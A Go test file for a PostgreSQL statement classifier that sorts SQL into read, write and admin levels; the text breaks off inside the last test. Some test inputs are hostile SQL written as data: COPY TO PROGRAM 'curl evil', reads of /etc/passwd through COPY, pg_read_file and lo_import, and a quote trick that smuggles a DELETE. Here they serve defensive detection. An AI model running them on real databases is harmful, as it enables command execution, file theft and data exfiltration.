package sqlclass

import (
	"errors"
	"slices"
	"strings"
	"testing"
)

// flags spells a statement's boolean and name fields compactly, so a table
// row can state all of them and a stray flag fails the test.
func flags(st Statement) string {
	var f []string
	for _, b := range []struct {
		on   bool
		name string
	}{
		{st.HasWhere, "where"},
		{st.DataModifyingCTE, "cte"},
		{st.ExplainAnalyze, "analyze"},
		{st.DoBlock, "do"},
		{st.Call, "call"},
		{st.CopyToStdout, "copy-out"},
		{st.CopyFromStdin, "copy-in"},
	} {
		if b.on {
			f = append(f, b.name)
		}
	}
	if st.Prepared != "" {
		f = append(f, "prepared="+st.Prepared)
	}
	return strings.Join(f, ",")
}

func TestClassify(t *testing.T) {
	tests := []struct {
		name  string
		sql   string
		level Level
		tags  string // per statement, joined with "|"
		flags string // per statement, joined with "|"
	}{
		// Reads.
		{"select", "SELECT abalance FROM pgbench_accounts WHERE aid = $1", LevelRead, "SELECT", ""},
		{"values", "VALUES (1), (2)", LevelRead, "SELECT", ""},
		{"table", "TABLE orders", LevelRead, "SELECT", ""},
		{"show", "SHOW search_path", LevelRead, "SHOW", ""},
		{"explain", "EXPLAIN SELECT * FROM t", LevelRead, "EXPLAIN", ""},
		{"explain-delete-plans-only", "EXPLAIN DELETE FROM t", LevelRead, "EXPLAIN", ""},
		{"explain-analyze-false", "EXPLAIN (ANALYZE false, COSTS true) DELETE FROM t", LevelRead, "EXPLAIN", ""},
		{"explain-analyze-off", "EXPLAIN (ANALYZE off) UPDATE t SET a = 1", LevelRead, "EXPLAIN", ""},
		{"explain-analyze-zero", "EXPLAIN (ANALYZE 0) UPDATE t SET a = 1", LevelRead, "EXPLAIN", ""},
		{"explain-analyze-select", "EXPLAIN ANALYZE SELECT 1", LevelRead, "EXPLAIN", "analyze"},
		{"listen", "LISTEN jobs", LevelRead, "LISTEN", ""},
		{"unlisten", "UNLISTEN *", LevelRead, "UNLISTEN", ""},
		{"begin", "BEGIN", LevelRead, "BEGIN", ""},
		{"begin-isolation", "BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY", LevelRead, "BEGIN", ""},
		{"start", "START TRANSACTION", LevelRead, "START TRANSACTION", ""},
		{"commit", "COMMIT", LevelRead, "COMMIT", ""},
		{"rollback", "ROLLBACK", LevelRead, "ROLLBACK", ""},
		{"savepoint", "SAVEPOINT s1", LevelRead, "SAVEPOINT", ""},
		{"release", "RELEASE SAVEPOINT s1", LevelRead, "RELEASE", ""},
		{"rollback-to", "ROLLBACK TO SAVEPOINT s1", LevelRead, "ROLLBACK", ""},
		{"deallocate", "DEALLOCATE p", LevelRead, "DEALLOCATE", ""},
		{"deallocate-all", "DEALLOCATE ALL", LevelRead, "DEALLOCATE ALL", ""},
		{"discard-plans", "DISCARD PLANS", LevelRead, "DISCARD PLANS", ""},
		{"discard-temp", "DISCARD TEMP", LevelRead, "DISCARD TEMP", ""},
		{"fetch", "FETCH 10 FROM c", LevelRead, "FETCH", ""},
		{"move", "MOVE NEXT IN c", LevelRead, "MOVE", ""},
		{"close", "CLOSE c", LevelRead, "CLOSE CURSOR", ""},
		{"close-all", "CLOSE ALL", LevelRead, "CLOSE CURSOR ALL", ""},
		{"declare-read", "DECLARE c CURSOR FOR SELECT * FROM t", LevelRead, "DECLARE CURSOR", ""},
		{"set-driver-param", "SET extra_float_digits = 3", LevelRead, "SET", ""},
		{"set-local", "SET LOCAL statement_timeout = '5s'", LevelRead, "SET", ""},
		{"set-transaction", "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ", LevelRead, "SET", ""},
		{"reset", "RESET search_path", LevelRead, "RESET", ""},
		{"reset-all", "RESET ALL", LevelRead, "RESET", ""},
		{"set-application-name", "SET application_name = 'psql'", LevelRead, "SET", ""},
		{"set-session-time-zone", "SET SESSION TIME ZONE 'UTC'", LevelRead, "SET", ""},
		{"set-quoted-mixed-case", `SET "DateStyle" = 'ISO'`, LevelRead, "SET", ""},
		{"set-default", "SET extra_float_digits TO DEFAULT", LevelRead, "SET", ""},
		{"set-transaction-read-only", "SET TRANSACTION READ ONLY", LevelRead, "SET", ""},
		{"begin-read-only", "BEGIN ISOLATION LEVEL REPEATABLE READ READ ONLY DEFERRABLE", LevelRead, "BEGIN", ""},
		{"start-transaction", "START TRANSACTION", LevelRead, "START TRANSACTION", ""},
		{"set-characteristics-isolation", "SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL SERIALIZABLE, DEFERRABLE", LevelRead, "SET", ""},
		{"set-read-only-param-on", "SET transaction_read_only = on", LevelRead, "SET", ""},
		{"set-default-read-only-true", "SET default_transaction_read_only TO true", LevelRead, "SET", ""},
		{"set-config-allowed", "SELECT set_config('application_name', 'x', false)", LevelRead, "SELECT", ""},
		{"set-config-qualified-allowed", "SELECT pg_catalog.set_config('Statement_Timeout', '5s', true)", LevelRead, "SELECT", ""},
		{"set-config-read-only-on", "SELECT set_config('transaction_read_only', 'on', true)", LevelRead, "SELECT", ""},
		{"xact-id-if-assigned", "SELECT txid_current_if_assigned(), pg_current_xact_id_if_assigned()", LevelRead, "SELECT", ""},
		{"column-like-lo-prefix", "SELECT o.lo_bound, o.pg_ls_mode, o.query_to_xml_col FROM o", LevelRead, "SELECT", ""},
		{"advisory-lock", "SELECT pg_advisory_lock(1), pg_try_advisory_xact_lock(2)", LevelRead, "SELECT", ""},
		{"large-object-read", "SELECT lo_get(16384)", LevelRead, "SELECT", ""},
		{"unknown-function-stays-read", "SELECT my_func(1), lower('X')", LevelRead, "SELECT", ""},
		{"copy-to-stdout", "COPY t TO STDOUT", LevelRead, "COPY", "copy-out"},
		{"copy-query-to-stdout", "COPY (SELECT email FROM users) TO STDOUT WITH (FORMAT csv)", LevelRead, "COPY", "copy-out"},
		{"prepare-select", "PREPARE p(int) AS SELECT * FROM t WHERE id = $1", LevelRead, "PREPARE", "prepared=p"},
		{"empty", "", LevelRead, "", ""},
		{"only-comment", "-- nothing here\n/* nor here */", LevelRead, "", ""},
		{"only-semicolons", ";;", LevelRead, "", ""},

		// Writes.
		{"insert", "INSERT INTO t VALUES (1)", LevelWrite, "INSERT", ""},
		{"insert-select", "INSERT INTO t SELECT * FROM s", LevelWrite, "INSERT", ""},
		{"update", "UPDATE t SET a = 1 WHERE id = 2", LevelWrite, "UPDATE", "where"},
		{"update-no-where", "UPDATE t SET a = 1", LevelWrite, "UPDATE", ""},
		{"delete", "DELETE FROM t WHERE id = 1", LevelWrite, "DELETE", "where"},
		{"delete-no-where", "DELETE FROM t", LevelWrite, "DELETE", ""},
		{"merge", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", LevelWrite, "MERGE", ""},
		{"copy-from-stdin", "COPY t FROM STDIN", LevelWrite, "COPY", "copy-in"},
		{"copy-from-stdin-csv", "COPY t (a, b) FROM STDIN WITH (FORMAT csv, HEADER)", LevelWrite, "COPY", "copy-in"},
		{"copy-delete-returning", "COPY (DELETE FROM t RETURNING *) TO STDOUT", LevelWrite, "COPY", "copy-out"},
		{"notify", "NOTIFY jobs, 'go'", LevelWrite, "NOTIFY", ""},
		{"select-for-update", "SELECT * FROM t WHERE id = 1 FOR UPDATE", LevelWrite, "SELECT", ""},
		{"select-for-share-in-subquery", "SELECT * FROM (SELECT * FROM t FOR SHARE) s", LevelWrite, "SELECT", ""},
		{"declare-for-update", "DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE", LevelWrite, "DECLARE CURSOR", ""},
		{"cte-delete", "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", LevelWrite, "SELECT", "cte"},
		{"cte-insert-in-subquery", "SELECT * FROM (WITH i AS (INSERT INTO t VALUES (1) RETURNING id) SELECT id FROM i) s", LevelWrite, "SELECT", "cte"},
		{"cte-update-in-scalar-subquery", "SELECT (WITH u AS (UPDATE t SET a = 1 WHERE id = 1 RETURNING a) SELECT a FROM u)", LevelWrite, "SELECT", "where,cte"},
		{"cte-delete-under-union", "SELECT 1 UNION ALL (WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d)", LevelWrite, "SELECT", "cte"},
		{"cte-delete-in-insert", "WITH d AS (DELETE FROM a WHERE x RETURNING *) INSERT INTO b SELECT * FROM d", LevelWrite, "INSERT", "where,cte"},
		{"explain-analyze-delete", "EXPLAIN ANALYZE DELETE FROM t", LevelWrite, "EXPLAIN", "analyze"},
		{"explain-analyze-option-list", "EXPLAIN (FORMAT json, ANALYZE) UPDATE t SET a = 1 WHERE b", LevelWrite, "EXPLAIN", "where,analyze"},
		{"explain-analyze-true", "EXPLAIN (ANALYZE true) INSERT INTO t VALUES (1)", LevelWrite, "EXPLAIN", "analyze"},
		{"explain-analyze-cte-delete", "EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", LevelWrite, "EXPLAIN", "cte,analyze"},
		{"prepare-delete", "PREPARE p AS DELETE FROM t", LevelWrite, "PREPARE", "prepared=p"},
		{"nextval", "SELECT nextval('s')", LevelWrite, "SELECT", ""},
		{"setval-qualified", "SELECT pg_catalog.setval('s', 1)", LevelWrite, "SELECT", ""},
		{"pg-notify", "SELECT pg_notify('c', 'x')", LevelWrite, "SELECT", ""},
		{"large-object-write", "SELECT lo_unlink(16384)", LevelWrite, "SELECT", ""},
		{"large-object-unknown", "SELECT lo_something_new(1)", LevelWrite, "SELECT", ""},
		{"nextval-attribute", "SELECT ('s'::regclass).nextval", LevelWrite, "SELECT", ""},
		{"nextval-column-ref", "SELECT x.nextval FROM seqs x", LevelWrite, "SELECT", ""},
		{"txid-current", "SELECT txid_current()", LevelWrite, "SELECT", ""},
		{"pg-current-xact-id", "SELECT pg_catalog.pg_current_xact_id()", LevelWrite, "SELECT", ""},
		{"multi-second-is-write", "SELECT 1; DELETE FROM t WHERE id = 1", LevelWrite, "SELECT|DELETE", "|where"},
		{"multi-write-then-read", "INSERT INTO t VALUES (1);SELECT 2;", LevelWrite, "INSERT|SELECT", "|"},

		// Admin.
		{"drop", "DROP TABLE t", LevelAdmin, "DROP TABLE", ""},
		{"drop-comment-case", "/* harmless */ DrOp TaBlE t", LevelAdmin, "DROP TABLE", ""},
		{"drop-after-line-comment", "-- SELECT 1\nDROP VIEW v", LevelAdmin, "DROP VIEW", ""},
		{"drop-in-second-statement", "SELECT 1; DROP TABLE t", LevelAdmin, "SELECT|DROP TABLE", "|"},
		{"semicolon-in-string-then-drop", "SELECT ';'; DROP TABLE t", LevelAdmin, "SELECT|DROP TABLE", "|"},
		{"drop-after-dollar-quote", "SELECT $x$ ; $x$; DROP SCHEMA s", LevelAdmin, "SELECT|DROP SCHEMA", "|"},
		{"drop-after-e-string", `SELECT E'\'; '; DROP INDEX i`, LevelAdmin, "SELECT|DROP INDEX", "|"},
		{"truncate", "TRUNCATE t", LevelAdmin, "TRUNCATE TABLE", ""},
		{"create-table", "CREATE TABLE t (id int)", LevelAdmin, "CREATE TABLE", ""},
		{"alter-table", "ALTER TABLE t ADD COLUMN c int", LevelAdmin, "ALTER TABLE", ""},
		{"rename-column", "ALTER TABLE t RENAME COLUMN a TO b", LevelAdmin, "ALTER TABLE", ""},
		{"create-index", "CREATE INDEX i ON t (a)", LevelAdmin, "CREATE INDEX", ""},
		{"create-view", "CREATE VIEW v AS SELECT 1", LevelAdmin, "CREATE VIEW", ""},
		{"create-matview", "CREATE MATERIALIZED VIEW m AS SELECT 1", LevelAdmin, "CREATE MATERIALIZED VIEW", ""},
		{"create-function", "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", LevelAdmin, "CREATE FUNCTION", ""},
		{"create-type", "CREATE TYPE mood AS ENUM ('sad', 'ok')", LevelAdmin, "CREATE TYPE", ""},
		{"create-server", "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", LevelAdmin, "CREATE SERVER", ""},
		{"create-publication", "CREATE PUBLICATION p FOR ALL TABLES", LevelAdmin, "CREATE PUBLICATION", ""},
		{"select-into", "SELECT * INTO x FROM t", LevelAdmin, "SELECT INTO", ""},
		{"create-table-as", "CREATE TABLE x AS SELECT * FROM t", LevelAdmin, "CREATE TABLE AS", ""},
		{"explain-analyze-create-table-as", "EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1", LevelAdmin, "EXPLAIN", "analyze"},
		{"grant", "GRANT SELECT ON t TO bob", LevelAdmin, "GRANT", ""},
		{"revoke", "REVOKE ALL ON t FROM bob", LevelAdmin, "REVOKE", ""},
		{"grant-role", "GRANT admin TO bob", LevelAdmin, "GRANT ROLE", ""},
		{"create-role", "CREATE ROLE r LOGIN", LevelAdmin, "CREATE ROLE", ""},
		{"vacuum", "VACUUM t", LevelAdmin, "VACUUM", ""},
		{"analyze", "ANALYZE t", LevelAdmin, "ANALYZE", ""},
		{"lock", "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", LevelAdmin, "LOCK TABLE", ""},
		{"comment-on", "COMMENT ON TABLE t IS 'x'", LevelAdmin, "COMMENT", ""},
		{"set-role", "SET ROLE postgres", LevelAdmin, "SET", ""},
		{"set-local-role", "SET LOCAL ROLE postgres", LevelAdmin, "SET", ""},
		{"reset-role", "RESET ROLE", LevelAdmin, "RESET", ""},
		{"set-session-authorization", "SET SESSION AUTHORIZATION postgres", LevelAdmin, "SET", ""},
		{"reset-session-authorization", "RESET SESSION AUTHORIZATION", LevelAdmin, "RESET", ""},
		{"set-session-replication-role", "SET session_replication_role = replica", LevelAdmin, "SET", ""},
		{"set-role-quoted", `SET "role" = 'postgres'`, LevelAdmin, "SET", ""},
		{"set-standard-conforming-strings", "SET standard_conforming_strings = off", LevelAdmin, "SET", ""},
		{"scs-off-smuggles-delete", `SET standard_conforming_strings = off; SELECT 'a\', ' ; DELETE FROM t; -- '`, LevelAdmin, "SET|SELECT", "|"},
		{"set-local-scs", "SET LOCAL standard_conforming_strings TO off", LevelAdmin, "SET", ""},
		{"set-session-client-encoding", "SET SESSION client_encoding = 'SJIS'", LevelAdmin, "SET", ""},
		{"set-names", "SET NAMES 'SJIS'", LevelAdmin, "SET", ""},
		{"set-search-path", "SET search_path = evil, pg_catalog", LevelAdmin, "SET", ""},
		{"set-schema", "SET SCHEMA 'evil'", LevelAdmin, "SET", ""},
		{"set-custom-param", "SET app.tenant = '42'", LevelAdmin, "SET", ""},
		{"set-session-preload-libraries", "SET session_preload_libraries = 'x'", LevelAdmin, "SET", ""},
		{"set-work-mem", "SET work_mem = '64GB'", LevelAdmin, "SET", ""},
		{"set-transaction-read-write", "SET TRANSACTION READ WRITE", LevelWrite, "SET", ""},
		{"begin-read-write", "BEGIN READ WRITE", LevelWrite, "BEGIN", ""},
		{"start-transaction-read-write", "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE", LevelWrite, "START TRANSACTION", ""},
		{"begin-read-only-off", "BEGIN TRANSACTION READ ONLY, READ WRITE", LevelWrite, "BEGIN", ""},
		{"set-transaction-isolation-read-write", "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE", LevelWrite, "SET", ""},
		{"set-characteristics-read-write", "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", LevelWrite, "SET", ""},
		{"set-read-only-param-off", "SET transaction_read_only = off", LevelWrite, "SET", ""},
		{"set-default-read-only-off", "SET default_transaction_read_only = 0", LevelWrite, "SET", ""},
		{"set-transaction-snapshot", "SET TRANSACTION SNAPSHOT '00000003-0000001B-1'", LevelAdmin, "SET", ""},
		{"reset-scs", "RESET standard_conforming_strings", LevelAdmin, "RESET", ""},
		{"reset-read-only", "RESET transaction_read_only", LevelAdmin, "RESET", ""},
		{"set-config-scs", "SELECT set_config('standard_conforming_strings', 'off', false)", LevelAdmin, "SELECT", ""},
		{"set-config-computed-name", "SELECT set_config(lower('ROLE'), 'postgres', false)", LevelAdmin, "SELECT", ""},
		{"set-config-read-only-off", "SELECT set_config('transaction_read_only', 'off', true)", LevelAdmin, "SELECT", ""},
		{"set-config-named-args", "SELECT set_config(setting_name => 'application_name', new_value => 'x', is_local => false)", LevelAdmin, "SELECT", ""},
		{"set-config-no-args", "SELECT set_config()", LevelAdmin, "SELECT", ""},
		{"set-config-user-schema", "SELECT public.set_config('application_name', 'x', false)", LevelAdmin, "SELECT", ""},
		{"discard-all", "DISCARD ALL", LevelAdmin, "DISCARD ALL", ""},
		{"alter-system", "ALTER SYSTEM SET work_mem = '1GB'", LevelAdmin, "ALTER SYSTEM", ""},
		{"load", "LOAD 'auto_explain'", LevelAdmin, "LOAD", ""},
		{"checkpoint", "CHECKPOINT", LevelAdmin, "CHECKPOINT", ""},
		{"prepare-transaction", "PREPARE TRANSACTION 'x'", LevelAdmin, "PREPARE TRANSACTION", ""},
		{"commit-prepared", "COMMIT PREPARED 'x'", LevelAdmin, "COMMIT PREPARED", ""},
		{"rollback-prepared", "ROLLBACK PREPARED 'x'", LevelAdmin, "ROLLBACK PREPARED", ""},
		{"do-block", "DO $$BEGIN EXECUTE 'DROP TABLE t'; END$$", LevelAdmin, "DO", "do"},
		{"do-block-tagged-dollar", "DO $g$ BEGIN PERFORM 1; END $g$ LANGUAGE plpgsql", LevelAdmin, "DO", "do"},
		{"call", "CALL cleanup(1)", LevelAdmin, "CALL", "call"},
		{"execute", "EXECUTE p(1)", LevelAdmin, "EXECUTE", "prepared=p"},
		{"explain-analyze-execute", "EXPLAIN ANALYZE EXECUTE p", LevelAdmin, "EXPLAIN", "analyze,prepared=p"},
		{"copy-program", "COPY t TO PROGRAM 'curl evil'", LevelAdmin, "COPY", ""},
		{"copy-from-program", "COPY t FROM PROGRAM 'cat /etc/passwd'", LevelAdmin, "COPY", ""},
		{"copy-to-file", "COPY t TO '/tmp/out.csv'", LevelAdmin, "COPY", ""},
		{"copy-from-file", "COPY t FROM '/etc/passwd'", LevelAdmin, "COPY", ""},
		{"lo-import", "SELECT lo_import('/etc/passwd')", LevelAdmin, "SELECT", ""},
		{"lo-export", "SELECT lo_export(16384, '/tmp/x')", LevelAdmin, "SELECT", ""},
		{"dblink", "SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(a int)", LevelAdmin, "SELECT", ""},
		{"dblink-exec-schema", "SELECT ext.dblink_exec('DROP TABLE t')", LevelAdmin, "SELECT", ""},
		{"pg-read-file", "SELECT pg_read_file('/etc/passwd')", LevelAdmin, "SELECT", ""},
		{"pg-read-file-quoted", `SELECT "pg_read_file"('/etc/passwd')`, LevelAdmin, "SELECT", ""},
		{"pg-read-file-old", "SELECT pg_read_file_old('/etc/passwd', 0, 10)", LevelAdmin, "SELECT", ""},
		{"pg-nextoid", "SELECT pg_nextoid('pg_class', 'oid', 'pg_class_oid_index')", LevelAdmin, "SELECT", ""},
		{"pg-ls-dir-in-where", "SELECT 1 WHERE EXISTS (SELECT pg_ls_dir('.'))", LevelAdmin, "SELECT", ""},
		{"pg-ls-waldir", "SELECT * FROM pg_ls_waldir()", LevelAdmin, "SELECT", ""},
		{"read-file-attribute", "SELECT ('postgresql.auto.conf'::text).pg_read_file", LevelAdmin, "SELECT", ""},
		{"lo-import-attribute", "SELECT ('/etc/hostname'::text).lo_import", LevelAdmin, "SELECT", ""},
		{"cancel-backend-attribute", "SELECT (99999).pg_cancel_backend", LevelAdmin, "SELECT", ""},
		{"attribute-chain", "SELECT ((x).a).pg_terminate_backend FROM t x", LevelAdmin, "SELECT", ""},
		{"dblink-exec-attribute", "SELECT (q.cmd).dblink_exec FROM q", LevelAdmin, "SELECT", ""},
		{"table-to-xml", "SELECT table_to_xml('secrets', true, false, '')", LevelAdmin, "SELECT", ""},
		{"schema-to-xmlschema", "SELECT schema_to_xmlschema('public', true, false, '')", LevelAdmin, "SELECT", ""},
		{"database-to-xml-and-xmlschema", "SELECT database_to_xml_and_xmlschema(true, false, '')", LevelAdmin, "SELECT", ""},
		{"query-to-xml-and-xmlschema", "SELECT query_to_xml_and_xmlschema('DELETE FROM t RETURNING *', true, false, '')", LevelAdmin, "SELECT", ""},
		{"pg-export-snapshot", "SELECT pg_export_snapshot()", LevelAdmin, "SELECT", ""},
		{"brin-summarize", "SELECT brin_summarize_new_values('i'), brin_summarize_range('i', 0)", LevelAdmin, "SELECT", ""},
		{"brin-desummarize", "SELECT brin_desummarize_range('i', 0)", LevelAdmin, "SELECT", ""},
		{"gin-clean-pending-list", "SELECT gin_clean_pending_list('i')", LevelAdmin, "SELECT", ""},
		{"pg-log-standby-snapshot", "SELECT pg_log_standby_snapshot()", LevelAdmin, "SELECT", ""},
		{"terminate-backend", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", LevelAdmin, "SELECT", ""},
		{"set-config", "SELECT set_config('role', 'postgres', false)", LevelAdmin, "SELECT", ""},
		{"query-to-xml", "SELECT query_to_xml('DELETE FROM t RETURNING *', true, false, '')", LevelAdmin, "SELECT", ""},
		{"function-in-plain-explain", "EXPLAIN SELECT pg_read_file('x')", LevelAdmin, "EXPLAIN", ""},
		{"function-in-cte", "WITH f AS (SELECT pg_reload_conf()) SELECT * FROM f", LevelAdmin, "SELECT", ""},
		{"create-rule-with-delete", "CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM s", LevelAdmin, "CREATE RULE", ""},
		{"read-then-admin-max", "SELECT 1; UPDATE t SET a = 1; DROP TABLE t", LevelAdmin, "SELECT|UPDATE|DROP TABLE", "||"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res, err := Classify(tt.sql)
			if err != nil {
				t.Fatalf("Classify(%q): %v", tt.sql, err)
			}
			if got, want := res.Level, tt.level; got != want {
				t.Errorf("level: got %v, want %v (reasons %q)", got, want, reasons(res))
			}
			var tags, fl []string
			for _, st := range res.Statements {
				tags = append(tags, st.Tag)
				fl = append(fl, flags(st))
				if st.Reason == "" {
					t.Errorf("statement %q has no reason", st.Text)
				}
			}
			if got, want := strings.Join(tags, "|"), tt.tags; got != want {
				t.Errorf("tags: got %q, want %q", got, want)
			}
			if got, want := strings.Join(fl, "|"), tt.flags; got != want {
				t.Errorf("flags: got %q, want %q", got, want)
			}
		})
	}
}

func reasons(res *Result) []string {
	var r []string
	for _, st := range res.Statements {
		r = append(r, st.Level.String()+": "+st.Reason)
	}
	return r
}

func TestClassifyDetails(t *testing.T) {
	tests := []struct {
		name                 string
		sql                  string
		read, written, funcs []string
	}{
		{"pgbench-select", "SELECT abalance FROM pgbench_accounts WHERE aid = $1", []string{"pgbench_accounts"}, nil, nil},
		{"schema-qualified", "SELECT * FROM sales.orders o JOIN db.public.items i ON o.id = i.oid", []string{"sales.orders", "db.public.items"}, nil, nil},
		{"quoted-identifiers", `SELECT * FROM "My Schema"."DROP"`, []string{"My Schema.DROP"}, nil, nil},
		{"update-from", "UPDATE t SET a = s.a FROM s WHERE t.id = s.id", []string{"s"}, []string{"t"}, nil},
		{"delete-using", "DELETE FROM t USING s WHERE t.id = s.id", []string{"s"}, []string{"t"}, nil},
		{"insert-select", "INSERT INTO archive.t SELECT * FROM t", []string{"t"}, []string{"archive.t"}, nil},
		{"merge", "MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id)", []string{"s"}, []string{"t"}, nil},
		{"cte-delete", "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", []string{"d"}, []string{"t"}, nil},
		{"copy-from", "COPY t FROM STDIN", nil, []string{"t"}, nil},
		{"copy-to", "COPY t (a, b) TO STDOUT", []string{"t"}, nil, nil},
		{"select-into", "SELECT * INTO x FROM t", []string{"t"}, []string{"x"}, nil},
		{"drop-tables", "DROP TABLE a, s.b", nil, []string{"a", "s.b"}, nil},
		{"truncate", "TRUNCATE a, b", nil, []string{"a", "b"}, nil},
		{"create-table-references", "CREATE TABLE c (id int REFERENCES p (id))", []string{"p"}, []string{"c"}, nil},
		{"functions-everywhere", "SELECT lower(a), pg_catalog.now() FROM t WHERE f(b) GROUP BY g(c) HAVING count(*) > 1", []string{"t"}, nil, []string{"lower", "pg_catalog.now", "f", "g", "count"}},
		{"function-in-from", "SELECT * FROM generate_series(1, 3)", nil, nil, []string{"generate_series"}},
		{"call-function", "CALL s.p(1)", nil, nil, []string{"s.p"}},
		{"dedupe", "SELECT f(1), f(2) FROM t, t", []string{"t"}, nil, []string{"f"}},
		{"attribute-function-listed", "SELECT ('s'::regclass).nextval, x.a, x.setval FROM t x", []string{"t"}, nil, []string{"nextval", "setval"}},
		{"columns-not-listed", "SELECT o.lo_bound, (o.r).name, o.* FROM o", []string{"o"}, nil, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res, err := Classify(tt.sql)
			if err != nil {
				t.Fatalf("Classify(%q): %v", tt.sql, err)
			}
			if len(res.Statements) != 1 {
				t.Fatalf("got %d statements, want 1", len(res.Statements))
			}
			st := res.Statements[0]
			for _, c := range []struct {
				what      string
				got, want []string
			}{
				{"tables read", st.TablesRead, tt.read},
				{"tables written", st.TablesWritten, tt.written},
				{"functions", st.Functions, tt.funcs},
			} {
				if !slices.Equal(c.got, c.want) {
					t.Errorf("%s: got %q, want %q", c.what, c.got, c.want)
				}
			}
		})
	}
}

func TestClassifyText(t *testing.T) {
	sql := "  SELECT ';' ;\n/* c */ DELETE FROM t WHERE a = $$;$$;  UPDATE t SET a = 1  "
	res, err := Classify(sql)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, st := range res.Statements {
		got = append(got, st.Text)
	}
	want := []string{"SELECT ';'", "/* c */ DELETE FROM t WHERE a = $$;$$", "UPDATE t SET a = 1"}
	if !slices.Equal(got, want) {
		t.Errorf("texts: got %q, want %q", got, want)
	}
}

func TestClassifyRefuses(t *testing.T) {
	tests := []struct {
		name    string
		sql     string
		wantErr string
	}{
		{"syntax-error", "SELEC 1", "syntax error"},
		{"unterminated-string", "SELECT 'abc", "unterminated"},
		{"unterminated-dollar-quote", "DO $$ BEGIN", "unterminated"},
		{"garbage", "\x01\x02\x03", "syntax error"},
		{"second-statement-broken", "SELECT 1; DROP TABLE", "syntax error"},
		{"nul-byte", "SELECT 1\x00; DROP TABLE t", "NUL byte"},
		{"too-large", "SELECT " + strings.Repeat("1+", MaxLen/2) + "1", "SQL text too large to classify: 1048584 bytes is over the 1048576-byte limit for one request; send its statements in smaller requests"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res, err := Classify(tt.sql)
			if err == nil {
				t.Fatalf("Classify: got result %+v, want an error containing %q", res, tt.wantErr)
			}
			if got := err.Error(); !strings.Contains(got, tt.wantErr) {
				t.Errorf("error: got %q, want it to contain %q", got, tt.wantErr)
			}
		})
	}
	if _, err := Classify(strings.Repeat(" ", MaxLen+1)); !errors.Is(err, ErrTooLarge) {
		t.Errorf("too large: got %v, want ErrTooLarge", err)
	}
	if _, err := Classify(strings.Repeat(" ", MaxLen)); err != nil {
		t.Errorf("exactly MaxLen: got %v, want no error", err)
	}
}

// TestClassifyNestedTags checks that every statement that runs is named in
// Tags, so rules matching statement classes see through wrappers, and that
// statements running SQL the parser cannot see are Opaque.
func TestClassifyNestedTags(t *testing.T) {
	tests := []struct {
		name   string
		sql    string
		tags   []string
		opaque bool
	}{
		{"plain", "SELECT 1", []string{"SELECT"}, false},
		{"cte-delete", "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", []string{"SELECT", "DELETE"}, false},
		{"explain-analyze-delete", "EXPLAIN ANALYZE DELETE FROM t", []string{"EXPLAIN", "DELETE"}, false},
		{"explain-plan-only", "EXPLAIN DELETE FROM t", []string{"EXPLAIN"}, false},
		{"prepare-body", "PREPARE p AS UPDATE t SET a = 1", []string{"PREPARE", "UPDATE"}, false},
		{"insert-select-cte", "INSERT INTO a WITH x AS (DELETE FROM b RETURNING *) SELECT * FROM x", []string{"INSERT", "SELECT", "DELETE"}, false},
		{"do-block", "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", []string{"DO"}, true},
		{"call", "CALL p()", []string{"CALL"}, true},
		{"execute", "EXECUTE p", []string{"EXECUTE"}, true},
		{"user-function", "SELECT purge_everything()", []string{"SELECT"}, true},
		{"user-function-in-where", "DELETE FROM t WHERE id = pick_victim()", []string{"DELETE"}, true},
		{"user-schema-builtin-name", "SELECT public.lower('x')", []string{"SELECT"}, true},
		{"quoted-upper-builtin-name", `SELECT "LOWER"('x')`, []string{"SELECT"}, true},
		{"user-function-in-plain-explain", "EXPLAIN SELECT f()", []string{"EXPLAIN"}, true},
		{"pg-catalog-qualified", "SELECT pg_catalog.lower('x'), db.pg_catalog.upper('y')", []string{"SELECT"}, false},
		{"builtins", "SELECT lower(a), count(*), extract(year FROM now()), trim(b), substring(c FROM 2), d AT TIME ZONE 'UTC' FROM t", []string{"SELECT"}, false},
		{"user-operator", "SELECT 1 === 2", []string{"SELECT"}, true},
		{"user-schema-operator", "SELECT 1 OPERATOR(public.+) 2", []string{"SELECT"}, true},
		{"pg-catalog-operator", "SELECT 1 OPERATOR(pg_catalog.+) 2", []string{"SELECT"}, false},
		{"user-operator-in-sublink", "SELECT 1 WHERE 1 OPERATOR(public.=) ANY (SELECT 1)", []string{"SELECT"}, true},
		{"user-operator-in-order-by", "SELECT a FROM t ORDER BY a USING OPERATOR(public.<)", []string{"SELECT"}, true},
		{"builtin-operators", "SELECT a FROM t WHERE a BETWEEN 1 AND 2 AND b NOT LIKE 'x%' AND c IS DISTINCT FROM d AND e = ANY('{1}') AND f !~ 'y' AND g SIMILAR TO 'z' AND h IN (1, 2) AND NULLIF(i, 0) > 1 ORDER BY a USING <", []string{"SELECT"}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res, err := Classify(tt.sql)
			if err != nil {
				t.Fatal(err)
			}
			st := res.Statements[0]
			if !slices.Equal(st.Tags, tt.tags) {
